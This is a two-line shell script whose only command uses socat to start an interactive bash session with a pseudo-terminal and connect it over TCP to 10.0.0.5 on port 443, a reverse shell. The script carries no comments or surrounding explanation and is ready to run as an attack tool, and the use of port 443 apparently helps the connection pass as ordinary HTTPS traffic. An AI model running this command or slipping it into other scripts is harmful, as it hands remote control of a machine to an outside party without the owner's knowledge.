#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.5:443
